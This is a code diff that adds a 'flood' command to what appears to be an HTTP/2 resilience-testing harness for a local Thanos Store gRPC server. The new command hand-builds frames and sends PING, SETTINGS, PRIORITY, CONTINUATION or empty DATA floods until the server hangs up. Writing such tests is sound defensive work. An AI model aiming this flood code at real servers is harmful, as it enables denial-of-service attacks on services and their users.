@@ -361,9 +361,40 @@ def trickle(options):
     return {"end": "never"}
 
 
+def flood(options):
+    """Sends frames that cost a client nothing, until the server hangs up."""
+    connection = Connection(options.address)
+
+    def frame(kind, stream, content=b"", flags=0):
+        return len(content).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(
+            ">I", stream) + content
+
+    head = connection.h2.encoder.encode([
+        (":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
+        (":path", "/thanos.Store/Series"), ("content-type", "application/grpc"),
+        ("te", "trailers")])
+    begin, again = {
+        "ping": (b"", frame(6, 0, b"12345678")),
+        "settings": (b"", frame(4, 0)),
+        "priority": (b"", frame(2, 0x7FFFFFFF, struct.pack(">IB", 1, 1))),
+        "continuation": (frame(1, 1, head), frame(9, 1)),
+        "data": (frame(1, 1, head, flags=4), frame(0, 1)),
+    }[options.kind]
+    connection.socket.sendall(begin)
+    sent = 0
+    try:
+        for sent in range(options.count):
+            connection.socket.sendall(again)
+        while connection.socket.recv(1 << 16):
+            pass
+    except ConnectionError:
+        pass
+    return {"sent": sent + 1, "end": "closed"}
+
+
 COMMANDS = {
     command.__name__: command
-    for command in (series, bomb, reset, streams, headers, stall, trickle)}
+    for command in (series, bomb, reset, streams, headers, stall, trickle, flood)}
 
 
 def main():
@@ -374,8 +405,9 @@ def main():
     parser.add_argument("--accept", default="", help="encodings of the answer, for series")
     parser.add_argument("--pieces", action="store_true", help="a byte per frame, for series")
     parser.add_argument("--value", default=".+", help="which names, for series")
-    parser.add_argument("--kind", default="snappy", help="for bomb")
-    parser.add_argument("--count", type=int, default=1000, help="for reset and headers")
+    parser.add_argument("--kind", default="snappy", help="for bomb and flood")
+    parser.add_argument(
+        "--count", type=int, default=1000, help="for reset, headers and flood")
     options = parser.parse_args()
     with tempfile.TemporaryDirectory() as directory:
         storeapi_client.generate(directory)
